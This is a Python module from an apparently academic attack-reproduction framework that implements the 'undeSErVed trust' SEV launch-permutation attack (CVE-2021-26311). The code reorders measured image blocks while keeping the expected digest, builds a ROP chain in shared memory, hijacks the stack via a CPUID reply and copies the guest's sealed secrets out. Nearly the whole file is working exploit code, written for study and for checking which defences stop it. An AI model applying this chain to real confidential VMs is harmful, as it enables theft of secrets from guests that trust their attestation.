"""A11: the launch digest says what was loaded, not where."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Iterator, Sequence
from typing import Final

from cbit.attacks.experiments.code_injection import ASKS_FOR_NAME, OUT, ROUTINE
from cbit.attacks.experiments.correspondent import Owner
from cbit.attacks.experiments.known_constants import CORPUS, SETUP, kernel
from cbit.attacks.lab.assemble import assemble
from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.built_in import KERNEL, BuiltIn
from cbit.attacks.lab.guest import CPUID, HLT
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import Log
from cbit.attacks.lab.outcome import SUCCEEDS, Mode, does_not_apply, stopped_by, succeeds
from cbit.attacks.lab.scene import Facts, Scene
from cbit.attacks.lab.stand import Stand
from cbit.attacks.lab.tools import Thwarted
from cbit.attacks.power import Power
from cbit.attacks.victim import SAYS, TEXT
from cbit.guest.builtin.image import image
from cbit.guest.builtin.interface import IMAGE, MEMORY, SEALED, SECRET, SHARED_AT, SHARED_PAGE, SHOWN, Request
from cbit.guest.builtin.sealed import seal
from cbit.spec.address import BLOCK, PAGE

Pieces = Sequence[tuple[int, bytes]]

#: What the adversary wants to find: it begins a block, or it lies in one.
SWITCH_STACK: Final = bytes.fromhex("94 c3")  # xchg esp, eax; ret
POP_RAX, POP_RDI = bytes.fromhex("58 c3"), bytes.fromhex("5f c3")
#: stosq; ret, which a kernel of 8 MiB has with luck; stosd; ret, which it has for certain.
STORES: Final = {8: bytes.fromhex("48 ab c3"), 4: bytes.fromhex("ab c3")}
INJECTED: Final = MEMORY + 0x16000  #: where the adversary's code is written; the guest leaves it alone
STACK: Final = SHARED_AT + 0x800  #: linear address of the stack that the host can write

#: The published copy gadget.
COPY: Final = "pop rsi; pop rdi; pop rcx; rep movsb; hlt"


def firmware(stand: Stand) -> Scene:
    """Hand the host the built-in guest's image and a kernel; their owner knows the digest."""
    owner, known = Owner.of(stand), kernel(stand)
    whole = [(IMAGE, image()), (KERNEL, known)]

    def launch(pieces: Pieces) -> BuiltIn:
        addresses = stand.variant == "addresses"
        guest = stand.built_in(owner.table, kernel=known, pieces=pieces, addresses=addresses)
        assert owner.gave(guest)
        return guest

    honest = launch(whole)
    planted = owner.gave(honest)
    honest.vm.load(SEALED, seal(owner.key, TEXT, entropy=stand.entropy))
    honest.small.ask(Request.OPEN)
    serves = honest.small.console.lines[-1] == SAYS + TEXT.decode()
    honest.end()
    facts = Facts({"image": image(), "kernel": known})
    return Scene(owner.secrets, facts, planted=planted, serves=serves, launcher=launch)


_UNMEASURED = does_not_apply("nothing is measured: the host loads what it likes")


@attack(
    title="undeSErVed trust: a launch out of order",
    paper="Wilke et al., WOOT 2021, CVE-2021-26311 (attacks.md A11)",
    holds={Power.CARRY_LAUNCH, Power.TAKE_EXITS, Power.EMULATE, Power.MAP_MEMORY},
    expect={
        Mode.NONE: _UNMEASURED,
        Mode.SME: _UNMEASURED,
        Mode.SEV: succeeds("the digest covers contents in the order of the calls, and no addresses"),
        Mode.SEV_ES: SUCCEEDS,
        Mode.SEV_SNP: stopped_by("each page's address is part of the digest"),
    },
    defences={
        "addresses": stopped_by(
            "a digest that covers addresses, as SNP's does: the owner gives no secret",
            shown="a digest that covers addresses",
        )
    },
    victim=firmware,
    setup=SETUP,
    parameters=CORPUS,
)
def launch_permutation(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Launch the owner's image with blocks exchanged, and turn its start-up into a chain of pieces.

    1. A compressed kernel, or the code of a large firmware, has every short piece of code somewhere.  Blocks
       of it change places with blocks of the image: "exchange rSP and rAX, return" goes to the start-up path,
       behind a CPUID; ends of functions that restore registers or store them go where text was.
    2. LAUNCH_UPDATE_DATA is called in the original order of the plaintext, so the digest is the one that the
       owner expects, and the secrets are sealed for this guest.
    3. At that CPUID the host answers with an address in shared memory.  It is the stack now.
    4. Chains of three pieces (pop rdi; pop rax; stosq) write to private memory.
    5. A return into what was written: fetches are private whatever the C-bit says.  It copies them out.
    """
    layout = _Layout(facts.data("image"), facts.data("kernel"))
    layout.begin_block(IMAGE + layout.image.index(ROUTINE) + BLOCK, SWITCH_STACK)
    pop_rax, pop_rdi = map(layout.anywhere, (POP_RAX, POP_RDI))
    size = next((size for size, code in STORES.items() if layout.has(code)), 4)
    store = layout.anywhere(STORES[size])
    pieces = layout.pieces()
    hands.launch(pieces)
    log.step(
        f"launched in {len(pieces)} pieces, {len(layout.places)} blocks at other places: the owner finds its"
        f" digest and seals the secrets; pop rax at {pop_rax:#x}, pop rdi at {pop_rdi:#x}, a store of {size}"
        f" bytes at {store:#x}"
    )
    log.figure(
        "16-byte blocks that can be placed at will",
        sum(len(data) for _, data in pieces) // BLOCK,
        published="230 000 blocks for a 3.5 MB OVMF",
        source="undeSErVed trust §V-B (attacks.md A11)",
        difference="a small image, and a kernel of 8 MiB that is measured with it",
    )
    code = assemble(COPY, INJECTED)
    code += bytes(-len(code) % size)
    chain = b""
    for at in range(0, len(code), size):
        word = int.from_bytes(code[at : at + size], "little")
        chain += struct.pack("<5Q", pop_rdi, INJECTED + at, pop_rax, word, store)
    chain += struct.pack("<4Q", INJECTED, SECRET, OUT, PAGE)
    hands.memory.write(hands.memory.spa(STACK - SHARED_AT + SHARED_PAGE), chain)
    log.step("the chain in shared memory", chain)
    log.figure(
        "bytes written by each chain of three pieces",
        size,
        "bytes",
        published="8, 3-gadget chain",
        source="undeSErVed trust §V-C (attacks.md A11)",
        difference="they agree, where the image has a store of 8 bytes",
    )
    exits = 1
    exit = hands.victim.until(CPUID)
    while hands.emulation["rax"] != ASKS_FOR_NAME:
        hands.victim.go_on(exit)
        exit, exits = hands.victim.until(CPUID), exits + 1
    hands.emulation["rax"] = STACK
    hands.victim.skip(2)
    log.step(f"CPUID number {exits} is answered with rAX = {STACK:#x}; the block behind it is another one")
    hands.victim.until(HLT)
    loot = hands.memory.read(hands.memory.spa(SHOWN, PAGE), PAGE)
    log.step("the secrets, copied to shared memory by the victim", loot)
    return loot


class _Layout:
    """Which blocks of what is launched change places.

    Mutable.

    Attributes:
        image: the built-in guest's.
        kernel: what is measured behind it.
        places: where a block goes, by where its owner means it to be.
    """

    def __init__(self, image: bytes, kernel: bytes) -> None:
        self.image, self.kernel = image, kernel
        self.places: dict[int, int] = {}
        self._text = iter(range(IMAGE + PAGE, IMAGE + 2 * PAGE, BLOCK))  # nothing refers to it

    def _places_of(self, code: bytes) -> Iterator[tuple[int, int]]:
        """Where a piece of code lies inside one block that is still at its place: block and offset."""
        for start, data in ((IMAGE, self.image), (KERNEL, self.kernel)):
            at = data.find(code)
            while at >= 0:
                block, offset = start + (at & -BLOCK), at % BLOCK
                if offset + len(code) <= BLOCK and block not in self.places:
                    yield block, offset
                at = data.find(code, at + 1)

    def _exchange(self, target: int, block: int) -> None:
        self.places |= {target: block, block: target}

    def has(self, code: bytes) -> bool:
        """Whether a piece of code can be had at all."""
        return any(True for _ in self._places_of(code))

    def begin_block(self, target: int, code: bytes) -> None:
        """Let a block of the image begin with a piece of code.

        Raises:
            Thwarted: no block does.
        """
        for block, offset in self._places_of(code):
            if offset == 0:
                return self._exchange(target, block)
        raise Thwarted(f"no block begins with {code.hex()}")

    def anywhere(self, code: bytes) -> int:
        """Say where the guest finds a piece of code; what is in the kernel changes places with text.

        Raises:
            Thwarted: it is nowhere.
        """
        for block, offset in self._places_of(code):
            if block >= IMAGE:
                return block + offset
            target = next(self._text)
            self._exchange(target, block)
            return target + offset
        raise Thwarted(f"{code.hex()} is nowhere")

    def pieces(self) -> Pieces:
        """Cut image and kernel: blocks lie at each other's places, the order is that of the original."""
        cut = []
        for start, data in ((IMAGE, self.image), (KERNEL, self.kernel)):
            edges = {start, start + len(data)}
            for block in self.places:
                if start <= block < start + len(data):
                    edges |= {block, block + BLOCK}
            for at, end in itertools.pairwise(sorted(edges)):
                cut.append((self.places.get(at, at), data[at - start : end - start]))
        return cut
